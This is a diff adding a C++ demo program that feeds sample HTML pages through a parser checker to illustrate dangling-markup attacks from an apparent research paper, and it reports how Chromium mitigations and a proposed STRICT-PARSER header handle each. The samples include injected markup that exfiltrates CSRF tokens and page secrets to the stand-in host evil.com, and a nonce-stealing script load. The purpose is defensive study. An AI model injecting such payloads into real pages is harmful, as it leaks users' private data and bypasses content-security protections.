@@ -1,0 +1,105 @@
+// Dangling-markup attack walkthroughs (paper sections 2.2-2.3 and the DE
+// violations): content exfiltration without JavaScript, nonce stealing,
+// and what the proposed STRICT-PARSER header would do about each page.
+#include <cstdio>
+#include <string>
+
+#include "core/checker.h"
+#include "html/parser.h"
+#include "mitigation/mitigations.h"
+
+namespace {
+
+using namespace hv;
+
+void analyze(const char* title, const std::string& page) {
+  static const core::Checker checker;
+  std::printf("--- %s ---\n", title);
+
+  const html::ParseResult parsed = html::parse(page);
+  const core::CheckResult result = checker.check(parsed, page);
+  for (const core::Finding& finding : result.findings) {
+    std::printf("  violation %-6s (%s)\n",
+                std::string(core::to_string(finding.violation)).c_str(),
+                std::string(core::info(finding.violation).definition).c_str());
+  }
+
+  // What the shipped Chromium mitigation sees.
+  const auto url_scan = mitigation::scan_url_newlines(*parsed.document);
+  if (url_scan.any_blocked()) {
+    std::printf("  Chromium mitigation [58]: resource load BLOCKED "
+                "(newline + '<' in URL)\n");
+  }
+  const auto script_scan =
+      mitigation::scan_script_in_attributes(*parsed.document);
+  if (script_scan.any_affected()) {
+    std::printf("  Chromium mitigation [4]: nonce IGNORED ('<script' in "
+                "attribute of nonced script)\n");
+  }
+
+  // What the proposed STRICT-PARSER roadmap would do, stage 0 vs strict.
+  const auto default_policy =
+      mitigation::parse_strict_parser_header("default");
+  const auto strict_policy = mitigation::parse_strict_parser_header("strict");
+  const auto stage0 =
+      mitigation::evaluate_strict_parser(default_policy, result, 0);
+  const auto strict =
+      mitigation::evaluate_strict_parser(strict_policy, result, 0);
+  std::printf("  STRICT-PARSER: default@stage0 %s, strict %s\n\n",
+              stage0.blocked ? "BLOCKS" : "renders",
+              strict.blocked ? "BLOCKS" : "renders");
+}
+
+}  // namespace
+
+int main() {
+  std::printf("Dangling markup and friends — why error tolerance is a "
+              "security problem\n\n");
+
+  // Paper Figure 3: the classic textarea exfiltration.
+  analyze("DE1: injected non-terminated textarea steals page content",
+          "<!DOCTYPE html><html><head><title>t</title></head><body>"
+          "<form action=\"https://evil.com\"><input type=\"submit\">"
+          "<textarea>\n"
+          "<p>CSRF token: 8f3a-secret</p>\n"
+          "<p>user email: victim@example.com</p>");
+
+  // Paper section 3.2.1 (DE2).
+  analyze("DE2: non-terminated select leaks following text",
+          "<!DOCTYPE html><html><head><title>t</title></head><body>"
+          "<form action=\"https://evil.com/collect\">"
+          "<select name=\"stolen\"><option>x\n"
+          "<p id=\"private\">secret</p>");
+
+  // The classic <img src=' exfiltration (section 2.2).
+  analyze("DE3_1: unclosed URL attribute absorbs markup",
+          "<!DOCTYPE html><html><head><title>t</title></head><body>"
+          "<img src=\"https://evil.com/?content=\n"
+          "<p>My little secret</p>\" alt=\"x\"></body></html>");
+
+  // Paper Figure 2: nonce stealing.
+  analyze("DE3_2: nonce-stealing script injection",
+          "<!DOCTYPE html><html><head><title>t</title></head><body>"
+          "<script src=\"https://evil.com/x.js\" nonce=\"leaked\" inj=\""
+          "<p>The brown fox jumps over the lazy dog</p>"
+          "<script id=in-action\"></script>"
+          "</body></html>");
+
+  // Paper Figure 5: window-name exfiltration via target.
+  analyze("DE3_3: non-terminated target attribute",
+          "<!DOCTYPE html><html><head><title>t</title></head><body>"
+          "<a href=\"https://evil.com\">click me</a>"
+          "<base target='\n<p>secret</p>' class=\"x\"></body></html>");
+
+  // Paper Figure 4: body absorbed by an unclosed tag.
+  analyze("HF2-style: open tag before <body> eats the security check",
+          "<!DOCTYPE html><html><head><title>t</title></head><p "
+          "<body onload=\"checkSecurity()\"><div>content</div>"
+          "</body></html>");
+
+  std::printf("Takeaway: every one of these is legal for today's parsers "
+              "to repair silently. The paper's roadmap (section 5.3.2) "
+              "blocks the rare ones first (stage 0 above) and ratchets up "
+              "as usage falls.\n");
+  return 0;
+}
